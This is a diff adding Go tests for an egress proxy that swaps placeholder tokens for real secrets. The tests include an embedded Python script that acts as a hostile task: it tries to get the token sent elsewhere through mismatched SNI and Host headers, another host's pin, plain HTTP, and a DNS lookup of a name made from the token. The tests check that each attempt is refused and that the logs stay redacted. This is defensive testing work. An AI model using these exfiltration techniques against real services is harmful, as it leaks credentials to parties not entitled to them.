@@ -9,7 +9,10 @@ import (
 	"strings"
 	"sync/atomic"
 	"testing"
+	"time"
 
+	"github.com/runfleet/runfleet/edge/audit"
+	"github.com/runfleet/runfleet/edge/internal/edgetest"
 	"github.com/runfleet/runfleet/edge/proxy"
 	"github.com/runfleet/runfleet/shared/hostproto"
 )
@@ -135,5 +138,143 @@ EOF
 	}
 	if n := sock.conns.Load() - 1; n != 0 {
 		t.Errorf("the host's Unix socket accepted %d connections from the tasks", n)
+	}
+}
+
+// A pin stands for its name in its attempt alone: an address a task kept
+// from an earlier attempt (in its home, which outlives attempts) stands
+// for nothing in the next, and a connection to it is a connection to that
+// address, which edge's guard refuses as reserved.
+func TestAPinDiesWithItsAttempt(t *testing.T) {
+	f := newFixture(t)
+	e := f.open(hostOptions{})
+	host, port, _ := net.SplitHostPort(f.tunnelHost)
+	prompt := fmt.Sprintf(`/usr/bin/python3 - <<'EOF'
+import os, socket
+saved = os.path.join(os.environ['HOME'], 'pin')
+if not os.path.exists(saved):
+    ip = socket.gethostbyname(%[1]q)
+    open(saved, 'w').write(ip)
+    s = socket.create_connection((ip, %[2]s), timeout=10)
+    print('first', ip, 'connected', flush=True)
+else:
+    ip = open(saved).read()
+    s = socket.create_connection((ip, %[2]s), timeout=10)
+    s.settimeout(10)
+    print('again', ip, 'read', len(s.recv(64)), flush=True)
+EOF
+`, host, port)
+	run := e.start(hostproto.StartRequest{Prompt: prompt, Secrets: apiToken})
+	e.waitEnd(run.RunID)
+	out := e.output(run.RunID)
+	var pin string
+	if _, err := fmt.Sscanf(out[strings.Index(out, "first "):], "first %s connected", &pin); err != nil || !strings.HasPrefix(pin, "198.18.") {
+		t.Fatalf("the first attempt's output: %q", out)
+	}
+	f.waitAudit(run.RunID, f.tunnelHost)
+	if _, err := e.client.Retry(bg, run.RunID); err != nil {
+		t.Fatal(err)
+	}
+	e.waitFor(run.RunID, func(r hostproto.Run) bool { return r.Attempt == 2 && hostproto.TerminalStatus(r.Status) })
+	if out := e.output(run.RunID); !strings.Contains(out, "again "+pin+" read 0") {
+		t.Errorf("the second attempt's connection to the first's pin: %q, want it closed unanswered", out)
+	}
+	old := net.JoinHostPort(pin, port)
+	if l := f.waitAudit(run.RunID, old)[old]; l.Action != audit.Denied || l.Reason != "upstream refused: a reserved address, not in upstream.allowPrivate" {
+		t.Errorf("the audit of the old pin: %+v, want denied as reserved", l)
+	}
+}
+
+// transparentAttacks is a task's Python that tries the transparent front
+// the ways an attacker would, with the placeholder in hand, and prints one
+// line "LABEL RESULT" for each (a status line, or an errno name).
+const transparentAttacks = `/usr/bin/python3 - <<'EOF'
+import errno, os, socket, ssl
+up, up_port = os.environ['UPSTREAM'].split(':'); up_port = int(up_port)
+tn = os.environ['TUNNEL'].split(':')[0]
+ph = os.environ['API_TOKEN']
+granted, other = socket.gethostbyname(up), socket.gethostbyname(tn)
+def tls(label, ip, sni, host):
+    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    try:
+        t = ctx.wrap_socket(socket.create_connection((ip, up_port), timeout=10), server_hostname=sni)
+        t.sendall(('GET /%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' % (label, host, ph)).encode())
+        print(label, t.recv(4096).split(b'\r\n')[0].decode(), flush=True)
+    except OSError as e:
+        print(label, errno.errorcode.get(e.errno, repr(e)), flush=True)
+tls('legit', granted, up, '%s:%d' % (up, up_port))
+tls('sni-of-another', granted, tn, '%s:%d' % (up, up_port))
+tls('host-of-another', granted, up, '%s:%d' % (tn, up_port))
+tls('pin-of-another', other, up, '%s:%d' % (up, up_port))
+s = socket.create_connection((granted, up_port), timeout=10)
+s.sendall(('GET /plain/%s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\n\r\n' % (ph, up, up_port, ph)).encode())
+print('plain', s.recv(4096).split(b'\r\n')[0].decode(), flush=True)
+named = socket.gethostbyname(ph + '.example.com')
+try:
+    print('placeholder-name', len(socket.create_connection((named, 443), timeout=10).recv(64)), flush=True)
+except OSError as e:
+    print('placeholder-name', errno.errorcode.get(e.errno, repr(e)), flush=True)
+EOF
+`
+
+// The transparent front holds against a task that has its placeholder and
+// tries to get the value sent elsewhere (egress open, the widest): the pin
+// of the granted name with another name's SNI or Host is 421; the pin of
+// another name with the granted name's SNI is a tunnel to that other name,
+// which gets the placeholder alone; plain HTTP to the granted name is 403
+// and sends nothing; a DNS name made of the placeholder resolves, and
+// nothing of edge's records it unredacted. The upstream receives the real
+// value once, for the legitimate request.
+func TestTransparentFrontHoldsAgainstATaskWithItsPlaceholder(t *testing.T) {
+	f := newFixture(t)
+	e := f.open(hostOptions{})
+	run := e.start(hostproto.StartRequest{Prompt: "export UPSTREAM=" + f.upstreamHost + " TUNNEL=" + f.tunnelHost + "\n" + transparentAttacks, Secrets: apiToken})
+	e.waitEnd(run.RunID)
+	out := strings.ReplaceAll(e.output(run.RunID), "\r\n", "\n")
+	for _, want := range []string{
+		"legit HTTP/1.1 200 OK\n",
+		"sni-of-another HTTP/1.1 421 Misdirected Request\n",
+		"host-of-another HTTP/1.1 421 Misdirected Request\n",
+		// The tunnel's far end is the same server (both names are
+		// 127.0.0.1 to edge's resolver): it answers, without the value.
+		"pin-of-another HTTP/1.1 200 OK\n",
+		"plain HTTP/1.1 403 Forbidden\n",
+		// Nothing resolves the name upstream, so edge closes.
+		"placeholder-name 0\n",
+	} {
+		if !strings.Contains(out, want) {
+			t.Errorf("the task's output lacks %q:\n%s", want, out)
+		}
+	}
+	saw := f.upstreamSaw()
+	if len(saw) != 2 || saw[0] != "Bearer "+realSecret || !strings.HasPrefix(saw[1], "Bearer ph-") {
+		t.Errorf("the upstream saw %q, want the real value for the legitimate request and the placeholder through the tunnel", saw)
+	}
+	tunnelled := "tunnel.example.test:" + port(f.upstream)
+	wantAudit := []string{
+		f.upstreamHost + " substituted 200 /legit",
+		f.upstreamHost + " denied 421 /sni-of-another",
+		f.upstreamHost + " denied 421 /host-of-another",
+		tunnelled + " tunnelled 200 ",
+		f.upstreamHost + " blocked 403 /plain/[placeholder]",
+		"[placeholder].example.com:443 denied 502 ",
+	}
+	var actions map[string]int
+	edgetest.WaitFor(t, 10*time.Second, fmt.Sprintf("the audit to hold %q", wantAudit), func() bool {
+		actions = map[string]int{}
+		for _, l := range f.auditEntries() {
+			actions[fmt.Sprintf("%s %s %d %s", l.Host, l.Action, l.Status, l.Path)]++
+		}
+		for _, w := range wantAudit {
+			if actions[w] != 1 {
+				return false
+			}
+		}
+		return true
+	})
+	b, err := os.ReadFile(filepath.Join(f.dataDir, "logs", audit.FileName))
+	must(t, err)
+	if strings.Contains(strings.ToLower(string(b)), "ph-") || strings.Contains(strings.ToLower(e.logs.String()), "ph-") {
+		t.Errorf("the audit or the log holds the placeholder, in some case")
 	}
 }
